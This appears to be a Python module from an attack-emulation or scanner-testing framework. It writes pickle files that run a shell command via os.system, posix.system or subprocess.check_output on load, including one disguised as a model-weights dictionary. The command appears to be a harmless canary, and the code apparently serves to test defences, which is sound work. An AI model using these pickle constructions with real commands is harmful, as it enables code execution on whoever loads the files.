"""The classic: a pickle that calls os.system, in every protocol's own words."""

import pickle
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

from caponier.emulate.attacker.pickle_stream import PROTO_4, called, ended, line, named, text
from caponier.emulate.file_emulation import PICKLE_EMBEDDING, command, write_all
from caponier.matrix.technique import TechniqueId


@dataclass(frozen=True)
class PlainPickleAttack:
    """Writes pickles that run a command as soon as they are loaded."""

    name: ClassVar[str] = "plain_pickle_attack"
    description: ClassVar[str] = "pickles that call os.system when they are loaded, in protocols 0, 2 and 4"
    techniques: ClassVar[tuple[TechniqueId, ...]] = PICKLE_EMBEDDING
    harmful: ClassVar[bool] = True

    def write(self, folder: Path, canary: Path) -> list[Path]:
        """Write the files; see `caponier.emulate.file_emulation.FileEmulation.write`."""
        order = command(canary)
        stack_global = text("os") + text("system") + pickle.STACK_GLOBAL
        contents = {
            "protocol-0.pkl": named("os", "system")
            + pickle.MARK
            + line(order)
            + pickle.TUPLE
            + pickle.REDUCE
            + pickle.STOP,
            "protocol-2.pkl": ended(called(named("posix", "system"), text(order))),
            "protocol-4.pkl": ended(called(stack_global, text(order)), proto=PROTO_4),
            "in-a-model.pkl": ended(
                pickle.EMPTY_DICT,
                pickle.MARK,
                text("weights"),
                pickle.EMPTY_LIST,
                text("hook"),
                called(named("os", "system"), text(order)),
                pickle.SETITEMS,
            ),
            "no-extension": ended(called(named("subprocess", "check_output"), text(order))),
        }
        return write_all(folder, contents)


EMULATION = PlainPickleAttack()
